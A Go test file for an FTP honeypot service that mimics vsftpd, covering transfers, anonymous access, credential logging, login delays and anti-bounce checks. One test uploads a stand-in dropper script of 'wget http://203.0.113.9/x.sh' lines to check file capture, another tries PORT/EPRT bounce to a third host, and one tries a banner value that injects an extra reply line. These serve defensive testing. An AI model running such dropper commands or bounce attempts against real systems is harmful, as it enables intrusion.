package ftp

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"decnet/internal/archetype"
	"decnet/internal/event"
	"decnet/internal/service"
	"decnet/internal/testutil"
)

func sum(b []byte) string {
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])
}

// captured returns the file_captured events for path p.
func captured(evs *testutil.Events, p string) []event.Event {
	return evs.With(event.TypeFileCaptured, "orig_path", p)
}

// checkArtifact checks a file_captured event against the bytes sent and
// the file the store kept.
func checkArtifact(t *testing.T, srv *Server, e event.Event, want []byte) {
	t.Helper()
	if e.Fields["sha256"] != sum(want) || e.Fields["size"] != fmt.Sprint(len(want)) || e.Fields["stored"] != "true" {
		t.Fatalf("file_captured %v, want sha256 %s size %d", e.Fields, sum(want), len(want))
	}
	got, err := os.ReadFile(filepath.Join(srv.cfg.Host.DataDir, "artifacts", e.Fields["stored_as"]))
	if err != nil || !bytes.Equal(got, want) {
		t.Fatalf("stored %s: %d bytes, err %v; want %d bytes", e.Fields["stored_as"], len(got), err, len(want))
	}
	for _, k := range []string{event.FieldSrcIP, event.FieldSrcPort, "dst_port", event.FieldSession, event.FieldUsername} {
		if e.Fields[k] == "" {
			t.Errorf("file_captured lacks %s: %v", k, e.Fields)
		}
	}
}

func TestTransfers(t *testing.T) {
	srv, evs := newTestServer(t, "debian", map[string]string{"users": "rptest:secret"})
	c := dial(t, serve(t, srv))
	c.login("rptest", "secret")
	c.cmd("TYPE I")

	list, r := c.get("LIST")
	if r != "226 Directory send OK." {
		t.Fatalf("LIST: %q", r)
	}
	if !regexp.MustCompile(`(?m)^-rw-r--r--    1 1000     1000         \d+ \w{3} \d{2} \d{2}:\d{2} backup\.sql\r$`).MatchString(list) ||
		strings.Contains(list, ".bashrc") {
		t.Fatalf("LIST:\n%s", list)
	}
	if all, _ := c.get("LIST -a"); !strings.Contains(all, " .bashrc\r\n") || !strings.Contains(all, " ..\r\n") ||
		!strings.Contains(all, "-rw-r--r--    1 1000     1000         3526 ") {
		t.Fatalf("LIST -a:\n%s", all)
	}
	if nl, _ := c.get("NLST"); nl != "backup.sql\r\n" {
		t.Fatalf("NLST %q", nl)
	}
	if nl, _ := c.get("NLST /home/rptest/*.sql"); nl != "/home/rptest/backup.sql\r\n" {
		t.Fatalf("NLST glob %q", nl)
	}
	// As in vsftpd, a name that is no directory is a filter on its parent.
	if nl, r := c.get("LIST /nonexistent"); nl != "" || r != "226 Directory send OK." {
		t.Fatalf("LIST of nothing: %q %q", nl, r)
	}
	if nl, r := c.get("LIST /root"); !strings.HasPrefix(nl, "drwx------    2 0        0            4096 ") || r != "226 Directory send OK." {
		t.Fatalf("LIST of an unreadable directory: %q %q", nl, r)
	}
	if nl, r := c.get("LIST /nonexistent/x"); nl != "" || r != "226 Transfer done (but failed to open directory)." {
		t.Fatalf("LIST in a missing directory: %q %q", nl, r)
	}

	want := srv.tree.root.kids["home"].kids["rptest"].kids["backup.sql"].data
	if len(want) == 0 {
		t.Fatal("no bait backup.sql")
	}
	d := c.pasv()
	if r := c.cmd("RETR backup.sql"); r != fmt.Sprintf("150 Opening BINARY mode data connection for backup.sql (%d bytes).", len(want)) {
		t.Fatalf("RETR mark %q", r)
	}
	got, _ := io.ReadAll(d)
	d.Close()
	if r := c.reply(); r != "226 Transfer complete." || !bytes.Equal(got, want) {
		t.Fatalf("RETR: %q, %d bytes of %d", r, len(got), len(want))
	}
	c.cmd("REST 10")
	if got, r := c.get("RETR backup.sql"); r != "226 Transfer complete." || got != string(want[10:]) {
		t.Fatalf("REST+RETR: %q %q", r, got)
	}
	if _, r := c.get("RETR /etc"); r != "550 Failed to open file." {
		t.Fatalf("RETR of a directory: %q", r)
	}
	if _, r := c.get("RETR /root/.bashrc"); r != "550 Failed to open file." {
		t.Fatalf("RETR unreadable: %q", r)
	}
	payload := bytes.Repeat([]byte("#!/bin/sh\nwget http://203.0.113.9/x.sh\n"), 3000)
	if r := c.put("STOR drop.sh", payload); r != "226 Transfer complete." {
		t.Fatalf("STOR: %q", r)
	}
	testutil.Eventually(t, "file_captured", func() bool { return len(captured(evs, "/home/rptest/drop.sh")) == 1 })
	checkArtifact(t, srv, captured(evs, "/home/rptest/drop.sh")[0], payload)
	if list, _ := c.get("LIST drop.sh"); !strings.Contains(list, fmt.Sprintf("-rw-r--r--    1 1000     1000       %6d Mar 14 09:26 drop.sh\r\n", len(payload))) {
		t.Fatalf("uploaded file in LIST: %q", list)
	}
	if got, r := c.get("RETR drop.sh"); r != "226 Transfer complete." || got != string(payload) {
		t.Fatalf("RETR of the upload: %q, %d bytes", r, len(got))
	}
	if r := c.put("APPE drop.sh", []byte("tail\n")); r != "226 Transfer complete." {
		t.Fatalf("APPE: %q", r)
	}
	if got, _ := c.get("RETR drop.sh"); got != string(payload)+"tail\n" {
		t.Fatalf("after APPE: %d bytes", len(got))
	}
	if r := c.cmd("SIZE drop.sh"); r != fmt.Sprintf("213 %d", len(payload)+5) {
		t.Fatalf("SIZE: %q", r)
	}
	d = c.pasv()
	if r := c.cmd("STOU drop.sh"); r != "150 FILE: drop.sh.1" {
		t.Fatalf("STOU: %q", r)
	}
	d.Write([]byte("unique"))
	d.Close()
	if r := c.reply(); r != "226 Transfer complete." {
		t.Fatalf("STOU: %q", r)
	}
	if r := c.put("STOR /etc/evil", []byte("x")); r != "553 Could not create file." {
		t.Fatalf("STOR into /etc: %q", r)
	}
	if r := c.put("STOR /tmp/.x/y", []byte("x")); r != "553 Could not create file." {
		t.Fatalf("STOR into a missing directory: %q", r)
	}
	if r := c.put("STOR /tmp/kit.tgz", []byte("x")); r != "226 Transfer complete." {
		t.Fatalf("STOR into /tmp: %q", r)
	}
	if r := c.cmd("MDTM 20200102030405 /tmp/kit.tgz"); r != "213 File modification time set." {
		t.Fatalf("MDTM set: %q", r)
	}
	if r := c.cmd("MDTM /tmp/kit.tgz"); r != "213 20200102030405" {
		t.Fatalf("MDTM: %q", r)
	}

	// A second session sees the first one's files: the tree is the decky's.
	c2 := dial(t, serve(t, srv))
	c2.login("rptest", "secret")
	if nl, _ := c2.get("NLST /tmp"); !strings.Contains(nl, "/tmp/kit.tgz\r\n") {
		t.Fatalf("second session's NLST /tmp: %q", nl)
	}

	var downloads int
	for _, e := range evs.OfType("download") {
		if e.Fields["path"] == "/home/rptest/backup.sql" && e.Fields["complete"] == "true" {
			downloads++
		}
	}
	if downloads != 2 {
		t.Errorf("%d complete download events of backup.sql, want 2", downloads)
	}
}

func TestAnonymous(t *testing.T) {
	srv, evs := newTestServer(t, "debian", map[string]string{"anonymous_enable": "true", "anon_upload_enable": "true"})
	c := dial(t, serve(t, srv))
	c.login("anonymous", "mozilla@example.com")
	list, _ := c.get("LIST -R")
	if !strings.Contains(list, " pub\r\n") {
		t.Fatalf("LIST of the anonymous root: %q", list)
	}
	readme, r := c.get("RETR pub/README")
	if r != "226 Transfer complete." || !strings.Contains(readme, "files01 file archive") {
		t.Fatalf("RETR pub/README: %q %q", r, readme)
	}
	if _, r := c.get("RETR /etc/hostname"); r != "550 Failed to open file." {
		t.Fatalf("outside the chroot: %q", r)
	}
	if r := c.put("STOR pub/up.bin", []byte("warez")); r != "553 Could not create file." {
		t.Fatalf("STOR into root-owned pub: %q", r)
	}
	if r := c.put("STOR /incoming/up.bin", []byte("warez")); r != "226 Transfer complete." {
		t.Fatalf("STOR into incoming: %q", r)
	}
	if r := c.put("STOR /incoming/up.bin", []byte("again")); r != "553 Could not create file." {
		t.Fatalf("anonymous overwrite without anon_other_write_enable: %q", r)
	}
	if r := c.cmd("DELE /incoming/up.bin"); r != "550 Permission denied." {
		t.Fatalf("anonymous DELE: %q", r)
	}
	testutil.Eventually(t, "file_captured", func() bool { return len(captured(evs, "/incoming/up.bin")) == 1 })
	checkArtifact(t, srv, captured(evs, "/incoming/up.bin")[0], []byte("warez"))
	if list, _ := c.get("LIST incoming"); !strings.Contains(list, "-rw-------    1 106      113             5 Mar 14 09:26 up.bin\r\n") {
		t.Fatalf("anonymous upload in LIST (anon_umask 077, owned by ftp): %q", list)
	}
	auths := evs.OfType(event.TypeAuth)
	if len(auths) != 1 || auths[0].Fields["username"] != "anonymous" || auths[0].Fields["password"] != "mozilla@example.com" ||
		auths[0].Fields["success"] != "true" || auths[0].Fields["anonymous"] != "true" {
		t.Fatalf("auth events %+v", auths)
	}
}

func TestAuthEvents(t *testing.T) {
	srv, evs := newTestServer(t, "debian", map[string]string{"users": "alice:wonderland"})
	c := dial(t, serve(t, srv))
	c.reply()
	c.cmd("USER alice")
	c.cmd("PASS guess")
	c.cmd("USER alice")
	c.cmd("PASS wonderland")
	c.cmd("QUIT")
	testutil.Eventually(t, "two auth events", func() bool { return len(evs.OfType(event.TypeAuth)) == 2 })
	auths := evs.OfType(event.TypeAuth)
	for i, want := range []struct{ pw, ok string }{{"guess", "false"}, {"wonderland", "true"}} {
		f := auths[i].Fields
		if f["username"] != "alice" || f["password"] != want.pw || f["success"] != want.ok || f["src_ip"] != "127.0.0.1" || f["session"] == "" {
			t.Errorf("auth %d: %v", i, f)
		}
	}
	testutil.Eventually(t, "QUIT's command event", func() bool {
		cmds := evs.OfType(event.TypeCommand)
		return len(cmds) > 0 && cmds[len(cmds)-1].Fields["cmd"] == "QUIT"
	})
	for _, e := range evs.OfType(event.TypeCommand) {
		if strings.Contains(e.Fields["command"], "wonderland") || strings.Contains(e.Fields["command"], "guess") || e.Fields[event.FieldPassword] != "" {
			t.Errorf("a command event holds the password: %v", e.Fields)
		}
		if e.Fields["cmd"] == "PASS" && e.Fields["command"] != "PASS" {
			t.Errorf("PASS command event: %v", e.Fields)
		}
	}
}

func TestFailDelay(t *testing.T) {
	srv, _ := newTestServer(t, "debian", nil)
	fresh, err := Service{}.New(service.Config{Host: service.Host{Name: "d", DataDir: t.TempDir()}})
	if err != nil {
		t.Fatal(err)
	}
	delay := fresh.(*Server).failDelay
	for range 100 {
		if d := delay(true); d < 2*time.Second || d > 4*time.Second {
			t.Fatalf("PAM failure delay %v, want vsftpd's 1 s plus PAM's 1 to 3 s (measured 2.98, 3.39, 2.99)", d)
		}
	}
	if d := delay(false); d != time.Second {
		t.Fatalf("delay before PAM %v, want delay_failed_login's 1 s", d)
	}
	for _, tc := range []struct {
		user, pass    string
		ok, anon, pam bool
	}{
		{"admin", "admin", true, false, true},
		{"admin", "wrong", false, false, true},
		{"nobody", "x", false, false, true},
		{"anonymous", "x", false, false, true}, // anonymous_enable is off
		{"", "x", false, false, false},
		{"-admin", "x", false, false, false},
		{"ad min", "x", false, false, false},
		{"admin\x7f", "x", false, false, true}, // vsftpd lets DEL through
		{"admin\xb1", "x", false, false, false},
		{strings.Repeat("a", 129), "x", false, false, false},
		{"admin", strings.Repeat("p", 129), false, false, false},
	} {
		ok, anon, pam := srv.check(tc.user, tc.pass)
		if ok != tc.ok || anon != tc.anon || pam != tc.pam {
			t.Errorf("check(%q, %q) = %v %v %v, want %v %v %v", tc.user, tc.pass, ok, anon, pam, tc.ok, tc.anon, tc.pam)
		}
	}
}

func TestLineLimits(t *testing.T) {
	srv, _ := newTestServer(t, "debian", nil)
	addr := serve(t, srv)
	c := dial(t, addr)
	c.reply()
	if r := c.cmd("NOOP " + strings.Repeat("x", maxLine-7)); r != "530 Please login with USER and PASS." {
		t.Fatalf("a line of exactly %d bytes: %q", maxLine, r)
	}
	// Exactly the buffer with no LF, so that nothing is left unread and the
	// close is a FIN, not an RST that could drop the reply.
	c.conn.Write([]byte(strings.Repeat("x", maxLine)))
	if r := c.reply(); r != "500 Input line too long." {
		t.Fatalf("an overlong line: %q", r)
	}
	if r := c.line(); r != "EOF" {
		t.Fatalf("after an overlong line: %q", r)
	}
}

func TestIdleTimeout(t *testing.T) {
	srv, _ := newTestServer(t, "debian", map[string]string{"idle_session_timeout": "1"})
	c := dial(t, serve(t, srv))
	c.reply()
	start := time.Now()
	if r := c.reply(); r != "421 Timeout." || time.Since(start) < 900*time.Millisecond {
		t.Fatalf("idle: %q after %v", r, time.Since(start))
	}
	if r := c.line(); r != "EOF" {
		t.Fatalf("after the timeout: %q", r)
	}
}

func TestDataTimeouts(t *testing.T) {
	srv, _ := newTestServer(t, "debian", map[string]string{"users": "u:p"})
	srv.timeouts = timeouts{accept: 200 * time.Millisecond, connect: time.Second, data: 300 * time.Millisecond}
	addr := serve(t, srv)

	c := dial(t, addr)
	c.login("u", "p")
	c.cmd("PASV")
	if r := c.cmd("LIST"); r != "425 Failed to establish connection." {
		t.Fatalf("no passive connection: %q", r)
	}
	if r := c.cmd("LIST"); r != "425 Use PORT or PASV first." {
		t.Fatalf("PASV is used up after a failed transfer: %q", r)
	}

	d := c.pasv()
	defer d.Close()
	if r := c.cmd("STOR slow"); r != "150 Ok to send data." {
		t.Fatalf("STOR: %q", r)
	}
	if r := c.reply(); r != "421 Data timeout. Reconnect. Sorry." {
		t.Fatalf("stalled upload: %q", r)
	}
	if r := c.line(); r != "EOF" {
		t.Fatalf("after a data timeout: %q", r)
	}
}

func TestPassiveBadIP(t *testing.T) {
	srv, _ := newTestServer(t, "debian", map[string]string{"users": "u:p"})
	c := dial(t, serve(t, srv))
	c.login("u", "p")
	m := pasvRE.FindStringSubmatch(c.cmd("PASV"))
	if m == nil {
		t.Fatal("PASV failed")
	}
	port := atoi(m[5])<<8 | atoi(m[6])
	dl := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}}
	d, err := dl.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	if r := c.cmd("LIST"); r != "425 Security: Bad IP connecting." {
		t.Fatalf("data connection from another address: %q", r)
	}
}

// TestNoBounce checks that PORT and EPRT never make the decky connect
// anywhere but back to the client: a listener of a third host must see
// nothing, while the client's own port gets the listing.
func TestNoBounce(t *testing.T) {
	srv, evs := newTestServer(t, "debian", map[string]string{"users": "u:p"})
	c := dial(t, serve(t, srv))
	c.login("u", "p")

	victim, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	defer victim.Close()
	vport := victim.Addr().(*net.TCPAddr).Port
	hit := make(chan struct{}, 1)
	go func() {
		if conn, err := victim.Accept(); err == nil {
			conn.Close()
			hit <- struct{}{}
		}
	}()
	for _, cmd := range []string{
		fmt.Sprintf("PORT 127,0,0,2,%d,%d", vport>>8, vport&255),
		fmt.Sprintf("EPRT |1|127.0.0.2|%d|", vport),
	} {
		if r := c.cmd(cmd); !strings.HasPrefix(r, "500 Illegal ") {
			t.Fatalf("%s: %q", cmd, r)
		}
		if r := c.cmd("LIST"); r != "425 Use PORT or PASV first." {
			t.Fatalf("LIST after a refused %s: %q", cmd, r)
		}
	}
	select {
	case <-hit:
		t.Fatal("the decky connected to a third party")
	case <-time.After(100 * time.Millisecond):
	}
	refused := evs.OfType("port_refused")
	if len(refused) != 2 || refused[0].Fields["target"] != fmt.Sprintf("127.0.0.2:%d", vport) || refused[0].Fields["reason"] != "foreign address" {
		t.Fatalf("port_refused events %+v", refused)
	}

	// Active mode to the client itself works.
	mine, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer mine.Close()
	p := mine.Addr().(*net.TCPAddr).Port
	if r := c.cmd(fmt.Sprintf("PORT 127,0,0,1,%d,%d", p>>8, p&255)); r != "200 PORT command successful. Consider using PASV." {
		t.Fatalf("PORT to self: %q", r)
	}
	got := make(chan string, 1)
	from := make(chan int, 1)
	go func() {
		conn, err := mine.Accept()
		if err != nil {
			got <- err.Error()
			from <- 0
			return
		}
		defer conn.Close()
		from <- conn.RemoteAddr().(*net.TCPAddr).Port
		b, _ := io.ReadAll(conn)
		got <- string(b)
	}()
	if r := c.cmd("NLST"); r != "150 Here comes the directory listing." {
		t.Fatalf("NLST: %q", r)
	}
	if r := c.reply(); r != "226 Directory send OK." {
		t.Fatalf("NLST: %q", r)
	}
	if l := <-got; l != "backup.sql\r\n" {
		t.Fatalf("active NLST: %q", l)
	}
	// connect_from_port_20, which needs the privilege to bind it.
	if p := <-from; os.Geteuid() == 0 && p != 20 {
		t.Errorf("active data connection from port %d, want 20", p)
	}
}

func TestUploadCap(t *testing.T) {
	srv, evs := newTestServer(t, "debian", map[string]string{"users": "u:p"})
	c := dial(t, serve(t, srv))
	c.login("u", "p")
	big := bytes.Repeat([]byte{0x7f, 'E', 'L', 'F'}, maxUpload/4+1024)
	d := c.pasv()
	if r := c.cmd("STOR big.bin"); r != "150 Ok to send data." {
		t.Fatalf("STOR: %q", r)
	}
	go func() {
		d.Write(big) // fails once the server stops reading
		d.Close()
	}()
	if r := c.reply(); r != "451 Failure writing to local file." {
		t.Fatalf("over the cap: %q", r)
	}
	testutil.Eventually(t, "file_captured", func() bool { return len(captured(evs, "/home/u/big.bin")) == 1 })
	e := captured(evs, "/home/u/big.bin")[0]
	if e.Fields["truncated"] != "true" || e.Fields["complete"] != "false" {
		t.Fatalf("file_captured %v", e.Fields)
	}
	checkArtifact(t, srv, e, big[:maxUpload])
	if r := c.cmd("SIZE big.bin"); r != fmt.Sprintf("213 %d", maxUpload) {
		t.Fatalf("SIZE: %q", r)
	}
	if srv.mem.used != 0 {
		t.Fatalf("%d bytes of upload memory still held", srv.mem.used)
	}
}

// TestUploadMemory checks that parallel uploads share one memory budget:
// an upload that would take it past the limit is cut as a full disk.
func TestUploadMemory(t *testing.T) {
	srv, _ := newTestServer(t, "debian", map[string]string{"users": "u:p"})
	srv.mem.max = 3 * ioChunk
	c := dial(t, serve(t, srv))
	c.login("u", "p")
	if r := c.put("STOR a", make([]byte, 4*ioChunk)); r != "451 Failure writing to local file." {
		t.Fatalf("over the memory budget: %q", r)
	}
	if r := c.put("STOR b", make([]byte, ioChunk)); r != "226 Transfer complete." {
		t.Fatalf("within the budget: %q", r)
	}
}

func TestHomeGoneFailsLogin(t *testing.T) {
	srv, _ := newTestServer(t, "debian", map[string]string{"users": "u:p,v:q"})
	addr := serve(t, srv)
	c := dial(t, addr)
	c.login("v", "q")
	c.cmd("CWD /home")
	// v may not rename u's home (root owns /home), so remove it directly.
	delete(srv.tree.root.kids["home"].kids, "u")
	c2 := dial(t, addr)
	c2.reply()
	c2.cmd("USER u")
	if r := c2.cmd("PASS p"); r != "500 OOPS: cannot change directory:/home/u" {
		t.Fatalf("login without a home: %q", r)
	}
}

func TestFragment(t *testing.T) {
	f := Service{}.Fragment(service.Host{Name: "d1", DataDir: "/var/lib/x"}, map[string]string{"anonymous_enable": "true"})
	if !f.Data || f.MemoryMB < 96 || !strings.Contains(strings.Join(f.Command, " "), "--data-dir "+service.ContainerDataDir) ||
		!strings.Contains(strings.Join(f.Command, " "), "--persona anonymous_enable=true") {
		t.Fatalf("fragment %+v", f)
	}
	if _, err := (Service{}).New(service.Config{}); err == nil {
		t.Fatal("New without a data directory succeeded")
	}
}

func TestPersona(t *testing.T) {
	for _, tc := range []struct {
		keys map[string]string
		ok   bool
	}{
		{nil, true},
		{map[string]string{"users": "a:b,c:d:e", "anonymous_enable": "yes"}, false},
		{map[string]string{"users": "a:b,c:d:e", "anonymous_enable": "true"}, true},
		{map[string]string{"users": "../x:y"}, false},
		{map[string]string{"users": "nopass"}, false},
		{map[string]string{"ftpd_banner": "a\r\n230 hi"}, false},
		{map[string]string{"pasv_min_port": "1000"}, false},
		{map[string]string{"pasv_min_port": "40000", "pasv_max_port": "30000"}, false},
		{map[string]string{"pasv_min_port": "40000", "pasv_max_port": "40010"}, true},
		{map[string]string{"max_login_fails": "0"}, false},
		{map[string]string{"idle_session_timeout": "0"}, false},
	} {
		_, err := service.NewPersona(Service{}.Info(), tc.keys)
		if (err == nil) != tc.ok {
			t.Errorf("%v: err %v", tc.keys, err)
		}
	}
	p := defaultPersona()
	p.Users = []string{"a:1", "b:2", "a:3"}
	if got := p.accounts(); len(got) != 2 || got[0].uid != 1000 || got[1].uid != 1001 || len(got[0].passwords) != 2 {
		t.Fatalf("accounts %+v", got)
	}
}

func TestPasvPortRange(t *testing.T) {
	srv, _ := newTestServer(t, "debian", map[string]string{"users": "u:p", "pasv_min_port": "41000", "pasv_max_port": "41003"})
	c := dial(t, serve(t, srv))
	c.login("u", "p")
	for range 8 {
		m := pasvRE.FindStringSubmatch(c.cmd("PASV"))
		if m == nil {
			t.Fatal("PASV failed")
		}
		if p := atoi(m[5])<<8 | atoi(m[6]); p < 41000 || p > 41003 {
			t.Fatalf("passive port %d outside 41000-41003", p)
		}
	}
}

// TestAborUrgent sends ABOR as Telnet clients do (IAC IP, then IAC DM as
// TCP urgent data): with urgent data inline, as vsftpd sets it, the line
// is the one vsftpd recognises.
func TestAborUrgent(t *testing.T) {
	srv, _ := newTestServer(t, "debian", map[string]string{"users": "u:p"})
	c := dial(t, serve(t, srv))
	c.login("u", "p")
	c.conn.Write([]byte("\xff\xf4"))
	rc, err := c.conn.(*net.TCPConn).SyscallConn()
	if err != nil {
		t.Fatal(err)
	}
	var serr error
	rc.Write(func(fd uintptr) bool {
		serr = syscall.Sendto(int(fd), []byte{0xff, 0xf2}, syscall.MSG_OOB, nil)
		return true
	})
	if serr != nil {
		t.Fatal(serr)
	}
	if r := c.cmd("ABOR"); r != "225 No transfer to ABOR." {
		t.Fatalf("urgent ABOR: %q", r)
	}
}

// TestDistros seeds every distro's tree and checks what differs: the
// version in the banner, where the anonymous root and vsftpd.conf are,
// and the /usr merge.
func TestDistros(t *testing.T) {
	for _, d := range archetype.AllDistros() {
		t.Run(d.Slug, func(t *testing.T) {
			srv, _ := newTestServer(t, d.Slug, map[string]string{"users": "u:p", "anonymous_enable": "true"})
			addr := serve(t, srv)
			c := dial(t, addr)
			if g := c.reply(); g != "220 (vsFTPd "+distroVersion(d.Slug)+")" {
				t.Fatalf("banner %q", g)
			}
			c.cmd("USER u")
			c.cmd("PASS p")
			l := layoutOf(d.Slug)
			if r := c.cmd("SIZE " + l.conf); !strings.HasPrefix(r, "213 ") {
				t.Errorf("SIZE %s: %q", l.conf, r)
			}
			root, _ := c.get("LIST /")
			if merged := strings.Contains(root, " bin -> usr/bin\r\n"); merged != l.usrMerge {
				t.Errorf("LIST / (usrmerge %v):\n%s", l.usrMerge, root)
			}
			if nl, _ := c.get("NLST " + l.anonRoot + "/pub"); !strings.Contains(nl, "/pub/README\r\n") {
				t.Errorf("NLST of the anonymous pub: %q", nl)
			}
			a := dial(t, addr)
			a.login("ftp", "")
			if r := a.cmd("SIZE /pub/README"); !strings.HasPrefix(r, "213 ") {
				t.Errorf("anonymous SIZE /pub/README: %q", r)
			}
		})
	}
}

// TestLoginDelayWired checks that the 530 waits for failDelay, with PAM's
// share only for names PAM is asked about.
func TestLoginDelayWired(t *testing.T) {
	srv, _ := newTestServer(t, "debian", nil)
	srv.failDelay = func(pam bool) time.Duration {
		if pam {
			return 600 * time.Millisecond
		}
		return 100 * time.Millisecond
	}
	c := dial(t, serve(t, srv))
	c.reply()
	// The upper bounds only tell the two delays apart, with room for a
	// loaded machine (a -race run in CI took 308 ms for the 100 ms one).
	for _, tc := range []struct {
		user     string
		min, max time.Duration
	}{{"root", 600 * time.Millisecond, 3 * time.Second}, {"-x", 100 * time.Millisecond, 600 * time.Millisecond}} {
		c.cmd("USER " + tc.user)
		start := time.Now()
		if r := c.cmd("PASS x"); r != "530 Login incorrect." {
			t.Fatalf("PASS: %q", r)
		}
		if d := time.Since(start); d < tc.min || d > tc.max {
			t.Errorf("user %q: 530 after %v, want %v to %v", tc.user, d, tc.min, tc.max)
		}
	}
}
